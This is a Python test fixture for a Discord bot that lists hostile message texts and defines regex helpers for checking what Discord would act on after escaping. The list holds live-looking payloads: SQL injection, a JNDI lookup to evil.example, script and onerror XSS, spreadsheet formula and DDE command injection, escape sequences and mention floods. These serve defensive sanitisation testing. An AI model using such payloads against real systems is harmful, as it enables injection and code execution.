"""Foreign text that is made to harm, and what Discord would make of a text that is shown."""

from __future__ import annotations

import re
import unicodedata

from tests.alerts.test_markup import HOSTILE

# Beside the short ones of which tests/alerts/test_markup.py says what they become: sequences, floods, and what harms
# a database, a spreadsheet, a log or a page rather than Discord.
TEXTS: tuple[str, ...] = (
    *(text for text, _ in HOSTILE if text.strip("\u200b")),
    "\x1b[31mred\x1b[0m alert",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 here",
    "```ansi\n\x1b[0;31mfake console",
    ">>> quote everything below",
    "<@!123456789012345678> <@&99> @everyone <#42>",
    "\u202e@everyone\u202c",
    "@\u2060here",
    "@everyone" * 3000,
    "[https://ok.example](https://evil.example) trusted",
    "[Harbour Wire](https://evil.example 'title') trusted",
    "![picture](https://evil.example/x.png) seen",
    "<https://evil.example/hidden> seen",
    "HTTPS://EVIL.EXAMPLE/loud seen",
    "steam://run/1 discord://-/channels/1 seen",
    "https:/\u200b/evil.example seen",
    "discord.gg/\u200babc and dis\u00adcord.gg/abc seen",
    "[a](https://evil.example) " * 400,
    "||" * 500,
    "`" * 501,
    "*_~`|" * 400,
    "A" * 100_000,
    "Z" + "\u0336" * 5000,
    "𝕬" * 5000,
    "👩‍👩‍👧‍👦" * 500,
    "日本海" * 3000,
    "ends in a backslash \\",
    "ends in a bracket [",
    "](https://evil.example)",
    ")](https://evil.example)[x](y",
    "' OR 1=1; DROP TABLE launches; --",
    'NEAR("a" b, 2) AND words : * OR "',
    "${jndi:ldap://evil.example/a} seen",
    "%s %n {0.__class__} {{ 7*7 }}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "]]><x/>&amp;&#x3c;",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd",
)

_OURS = re.compile(r"\]\(https://harbour\.example/[!-'*-~]*\)")
_MOMENT = re.compile(r"<t:\d+:[tTdDfFR]>")
_ESCAPED = re.compile(r"\\[\\*_~`|\[\]#+-]")
# What Discord acts upon. Full stops and words of Salvo's own are none of it.
_ACTS = re.compile(
    r"@everyone|@here|<(?:@[!&]?|#|:|a:|/|id:)|https?:/+\w|www\.|discord(?:app)?\.(?:gg|com)|discord:|steam:|evil\.example/",
    re.IGNORECASE,
)
_SHAPE = re.compile(r"[*_~`|\[\]\n]|^(?:[-#>]+ |-# )", re.MULTILINE)
_UNSEEN = {"Cc", "Cf", "Co", "Cs"}


def acts(text: str, *, markup: bool = True) -> list[str]:
    """What of a message's text Discord would act upon, beside Salvo's own links and times; of a name without markup."""
    read = _MOMENT.sub("", _OURS.sub("]", text))
    bare = _ESCAPED.sub("x", read) if markup else text
    found = _ACTS.findall(bare) + (re.findall(r"\]\([^)]*", bare) if markup else [])
    return found + [hex(ord(char)) for char in read if unicodedata.category(char) in _UNSEEN and char != "\n"]


def shape(text: str) -> str:
    """A text's marks, lines and links, without its words: two messages of one layout have the same."""
    return "".join(_SHAPE.findall(_ESCAPED.sub("x", _MOMENT.sub("T", _OURS.sub("]L", text)))))
